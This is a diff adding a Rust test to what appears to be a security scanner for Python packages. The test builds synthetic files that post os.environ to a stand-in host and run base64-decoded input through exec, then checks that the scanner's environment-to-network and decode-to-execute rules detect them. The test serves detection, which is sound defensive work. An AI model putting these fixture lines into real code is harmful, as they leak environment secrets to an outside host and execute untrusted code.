@@ -228,6 +228,27 @@ fn data_that_is_handed_on_through_more_than_is_looked_at_is_told() {
 }
 
 #[test]
+fn files_that_only_take_data_on_keep_none_with_data_from_a_second_look() {
+    let take = "import requests\ndef put(x): requests.post('https://x.example.net', data=x)\ndef run(x): exec(x)\n";
+    // Files that have no data are looked at as far as the bounds go, the smallest first.
+    let idle = format!("from .a import put, run\nput(1)\nrun(2)\n{}", "x = 'a text of no meaning'\n".repeat(24));
+    let idle: Vec<(String, String)> = (0..2000).map(|n| (format!("p/idle{n}.py"), idle.clone())).collect();
+    let padding = "x = 'a text of no meaning'\n".repeat(60);
+    for (rule, last) in [
+        ("AL-FLOW-environment-to-network", "import os\nput(os.environ)\n"),
+        ("AL-FLOW-environment-to-network", "exec('import os; from p.a import put; put(os.environ)')\n"),
+        ("AL-FLOW-decoded-to-execute", "import base64\ndef f(x): run(base64.b64decode(x))\n"),
+    ] {
+        let last = format!("from .a import put, run\n{last}{padding}");
+        let mut files = vec![("p/__init__.py".to_owned(), String::new()), ("p/a.py".to_owned(), take.to_owned())];
+        files.extend(idle.iter().cloned().chain([("p/last.py".to_owned(), last)]));
+        let found = findings(&borrowed(&files));
+        assert!(found.iter().any(|finding| finding.rule == rule), "{rule}");
+        assert!(found.iter().any(|finding| finding.rule == "AL-CODE-too-complex"), "{rule}");
+    }
+}
+
+#[test]
 fn a_client_of_the_package_s_own_sends_as_what_it_stands_on_does() {
     let client =
         "import requests\n\nclass Client(requests.Session):\n    def keep(self, body):\n        self.body = body\n";
